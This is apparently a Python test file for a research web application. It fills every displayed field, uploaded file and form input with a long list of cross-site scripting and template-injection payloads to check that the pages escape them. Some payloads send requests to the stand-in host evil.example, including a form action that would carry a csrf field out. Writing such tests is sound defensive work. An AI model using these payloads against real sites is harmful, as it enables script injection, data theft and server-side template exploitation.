"""Words that would run as something else if a page let them: in every field that a page shows."""

import json
import re

from app.actions import accounts
from tests.house import PROTOCOL, RIGHTS, add_people, frozen_study, item_rows, jsonl, practice_row
from tests.sounds import wav
from tests.web.way import CHECKED, PAIRS

# §: where it stands, so that what runs says whose fault it is. 7919 * 7907 stands nowhere by chance.
VECTORS = (
    "<script data-x>window.__xss='§'</script>",
    "</title></textarea></script><script data-x>window.__xss='§'</script>",
    "--><script data-x>window.__xss='§'</script><!--",
    "<img data-x src=x onerror=\"window.__xss='§'\">",
    '"><img data-x src=x onerror=window.__xss=`§`>',
    "'><img data-x src=x onerror=window.__xss=`§`>",
    '" onmouseover="window.__xss=`§`" data-x="',
    "' autofocus onfocus='window.__xss=`§`' data-x='",
    "` onclick=window.__xss=`§` data-x=`",
    "<svg data-x onload=window.__xss=`§`>",
    "<svg><script data-x href=data:,window.__xss=`§` />",
    "<svg><animate data-x onbegin=window.__xss=`§` attributeName=x dur=1s>",
    '<svg><a data-x xlink:href="javascript:window.__xss=`§`"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img data-x src onerror=window.__xss=`§`>",
    '<math href="javascript:window.__xss=`§`" data-x>x</math>',
    '<a data-x href="javascript:window.__xss=`§`">§</a>',
    '<a data-x href="java&#9;script:window.__xss=`§`">§</a>',
    "javascript:window.__xss=`§`",
    "data:text/html,<script data-x>parent.__xss=`§`</script>",
    '<iframe data-x srcdoc="<script>parent.__xss=`§`</script>"></iframe>',
    '<iframe data-x src="javascript:parent.__xss=`§`"></iframe>',
    '<object data-x data="//evil.example/xss-§"></object>',
    '<embed data-x src="//evil.example/xss-§">',
    '<base data-x href="//evil.example/xss-§/">',
    '<meta data-x http-equiv="refresh" content="0;url=//evil.example/xss-§">',
    '<link data-x rel="stylesheet" href="//evil.example/xss-§.css">',
    "<style data-x>@import '//evil.example/xss-§.css';</style>",
    '<form data-x action="//evil.example/xss-§"><button>§</button></form>',
    '</form><form data-x action="//evil.example/xss-§"><input name=csrf>',
    '<button data-x formaction="javascript:window.__xss=`§`">§</button>',
    "<details data-x open ontoggle=window.__xss=`§`>",
    "<video data-x><source onerror=window.__xss=`§`></video>",
    "<input data-x autofocus onfocus=window.__xss=`§`>",
    '<p data-x style="background:url(//evil.example/xss-§)">',
    '<div data-x hx-get="/xss-§" hx-trigger="load"></div>',
    '" hx-get="/xss-§" hx-trigger="load" data-x="',
    '<div data-x data-hx-post="/xss-§" data-hx-trigger="load"></div>',
    '<div data-x hx-on::load="window.__xss=`§`" hx-on:click="window.__xss=`§`"></div>',
    '<div data-x hx-vals="js:{a: window.__xss=`§`}" hx-get="/xss-§" hx-trigger="load"></div>',
    '<div data-x _="on load set window.__xss to `§`"></div>',
    '<div data-x x-init="window.__xss=`§`" @click="window.__xss=`§`"></div>',
    "{{7919*7907}}{%print(7919*7907)%}${7919*7907}#{7919*7907}<%=7919*7907%>§",
    "{{request.application}}{{config}}{{cycler.__init__.__globals__}}§",
    "%3Cscript data-x%3Ewindow.__xss='§'%3C/script%3E",
    "&lt;script data-x&gt;window.__xss='§'&lt;/script&gt;",
    "\\u003cscript data-x\\u003ewindow.__xss='§'\\x3c/script\\x3e",
    "\uff1cscript data-x\uff1ewindow.__xss='§'\uff1c/script\uff1e",
    "<scr\u00adipt data-x>window.__xss='§'</scr\u200bipt><\u017fcript data-x>window.__xss='§'</\u017fcript>",
    "<![CDATA[<script data-x>window.__xss='§'</script>]]>",
    '<noscript><p title="</noscript><img data-x src=x onerror=window.__xss=`§`>">',
    "<template data-x><script>window.__xss='§'</script></template>",
    "';window.__xss='§';//\";window.__xss='§';//",
)
PLAIN = "{{7919+7907}} ' onerror=window.__xss=1 `${7919+7907}` &lt;b&gt; %3Cb%3E.wav"  # what a file may be called
NAMES = tuple(each for each in VECTORS if each.isprintable())  # a name is refused that holds what cannot be seen
PARTS = 6  # a name has 200 characters, so that some fields have some of the vectors each
ANSWER = str(7919 * 7907)


def all_of(where):
    """Return every vector as one text for a field that takes long ones."""
    return " ".join(each.replace("§", where) for each in VECTORS)


def one_of(where, number):
    """Return one vector for a field that takes a name."""
    return VECTORS[number % len(VECTORS)].replace("§", where)


STRATA = {"word_repetition": one_of("stratum", 3), "fluent": one_of("stratum2", 6)}
SOURCE = one_of("source", 4)
TITLE, QUESTION = all_of("title"), all_of("question")
FIRST = one_of("id0", 0)


def protocol(text=PROTOCOL, **more):
    """Return a protocol whose every free field is hostile."""
    for name, value in {"A small pilot": TITLE, "Does the filter change what people meant?": QUESTION, **more}.items():
        text = text.replace(f'"{name}"', json.dumps(value))
    for name, value in STRATA.items():
        text = text.replace(f"{name} =", f"{json.dumps(value)} =").replace(f'"{name}"', json.dumps(value))
    policies = {"semantic_policy": all_of("semantic"), "verbatim_policy": all_of("verbatim")}
    told = "\n".join(f"{key} = {json.dumps(value)}" for key, value in policies.items())
    return f'{text}\n[references]\nshown = ["semantic", "verbatim"]\n{told}\n'


def ledger(source=SOURCE):
    """Return a ledger whose every free field is hostile."""
    text = RIGHTS.replace('"invented"', json.dumps(source))
    for key in ("version", "publisher", "audio_owner", "reference_owner", "licence", "consent", "distribution"):
        text = "\n".join(
            f"{key} = {json.dumps(all_of(key))}" if line.startswith(f"{key} =") else line for line in text.splitlines()
        )
    return text


def rows(pairs=PAIRS, sounds=()):
    """Return items of which every text and name is hostile; both texts of each hold every vector."""
    found = []
    for number, row in enumerate(item_rows(pairs)):
        texts = {key: f"{row[key]} {all_of(key)}" for key in ("raw_hypothesis", "off", "on", "semantic_reference")}
        names = {
            "item_id": one_of(f"id{number}", number),
            "stratum": STRATA[row["stratum"]],
            "cluster": one_of(f"cluster{number}", number + 9),
            "source": SOURCE,
            "tags": [one_of("tag", each) for each in range(PARTS)],
            "lang": '" onmouseover="window.__xss=1" data-x="',
            "verbatim_reference": all_of("said"),
        }
        found.append(row | texts | names | ({"audio": sounds[number]} if sounds else {}))
    return found


def practice(number):
    row = practice_row(number)
    some = VECTORS[::2] if number == 1 else VECTORS[1::2]  # an explanation has 2,000 characters
    known = row["expected"] | {"explanation": " ".join(some).replace("§", "why")}
    texts = {key: f"{row[key]} {all_of('practice')}" for key in ("raw_hypothesis", "off", "on", "semantic_reference")}
    return row | texts | {"stratum": STRATA["fluent"], "source": SOURCE, "expected": known, "item_id": f"T-{number}"}


def prepare(store, world):
    """Make what `way.prepare` makes, out of hostile words; return the one-time code."""
    add_people(store, world)
    given = [*rows(sounds=(PLAIN, "missing.wav")), practice(1), practice(2)]
    frozen_study(store, world, protocol=protocol(CHECKED), ledger=ledger(), rows=given, sounds={PLAIN: wav()})
    return accounts.add(store, world, None, "nils", lead=False)


# What a form sends is made hostile on its way, where the field takes any words.
LONG = {
    "note": "note",
    "text": "deviation",
    "reason": "reason",
    "title": "title2",
    "question": "question2",
    "attest": "attest",
    **{key: f"{key}2" for key in ("version", "publisher", "audio_owner", "reference_owner", "consent", "distribution")},
    **{key: f"{key}2" for key in ("licence", "removal", "decided_by")},
    **{f"{section}.{key}": f"{key}3" for section, key in (("study", "title"), ("study", "question"))},
    **{f"references.{key}_policy": f"{key}3" for key in ("semantic", "verbatim")},
}
SECOND = one_of("source2", 15)


def table():
    """Return a table whose column names and cells are hostile."""
    names = ["Nr", "Gruppe", "Sprecher", "roh", "ohne Filter", "mit Filter", "Rohtext"]
    more = [each.replace("§", "column") for each in NAMES]
    cells = ["M-1", STRATA["fluent"], "sp-1", "x", all_of("cell"), all_of("cell") + " so", "x", *(["x"] * len(more))]
    quoted = [";".join(f'"{each.replace(chr(34), chr(34) * 2)}"' for each in line) for line in (names + more, cells)]
    return ("\n".join(quoted) + "\n").encode()


def poison(step):
    """Make the words of a form hostile that it takes all the same, and its files."""
    for name in step.fields:
        if name in LONG and step.route.startswith("/lead/") and not step.route.endswith("/people"):
            step.fields[name] = all_of(LONG[name])
    if step.route.endswith("{token}") or step.route.endswith("/draft"):
        step.fields["note"] = [all_of("note")]
    made = {"/lead/new": lambda: protocol(PROTOCOL.replace('"pilot"', '"made"')).encode()}
    made["/lead/studies/{study_id}/protocol"] = made["/lead/new"]
    made["/lead/studies/{study_id}/rights"] = lambda: ledger().encode()
    made["/lead/studies/{study_id}/items"] = lambda: (
        table() if step.file[0] == "more.csv" else jsonl(rows(sounds=(PLAIN, PLAIN)))
    )
    if step.file and step.route in made:
        step.file = (one_of("file", 4), made[step.route]())
    step.more = {name: (PLAIN, data) for name, (_, data) in step.more.items()}
    if step.route.endswith("/withdraw"):
        step.fields["value"] = FIRST
    if step.route.endswith("/items/columns"):
        step.fields["constant.source"] = SECOND
        del step.fields["encoding"]  # these words are in none but UTF-8
    if step.route.endswith("/freeze"):
        step.fields["acknowledge"] = re.findall('name="acknowledge" value="(\\w+)"', step.person.get(step.path).text)
    if step.route.endswith("/rights/entry"):
        step.fields["source"] = SECOND if step.fields["source"] == "a second source" else SOURCE


REFLECTED = (  # what a refused form says again; not those that would be taken, and end a stage
    *(
        "/login",
        "/code",
        "/account",
        "/account/look",
        "/review",
        "/adjudicate",
        "/lead/accounts",
        "/lead/accounts/reset",
    ),
    *("/review/{token}", "/adjudicate/{token}", "/review/practice/{token}", "/review/guess/{token}"),
    *("/lead/new", "/lead/new/plan", "/lead/select"),
    *(
        f"/lead/studies/{{study_id}}/{part}"
        for part in (
            *("reopen", "export", "withdraw", "protocol", "protocol/edit", "rights", "rights/entry", "items"),
            *("items/columns", "items/prefill", "items/audio", "people", "freeze", "replace"),
        )
    ),
)


def reflect(step):
    """Return the answer to a form of which every field is hostile, and every file."""
    kept = {"csrf", "version", "key", "former", "expected"}
    words = {
        name: value if name in kept else one_of("again", number)
        for number, (name, value) in enumerate(step.fields.items())
    }
    file = step.file and (one_of("name", 4), f"[{one_of('toml', 0)}]\nx".encode())
    more = {name: (one_of("name", 8), b"nothing") for name in step.more}
    return step.send(file=file, more=more, **words)
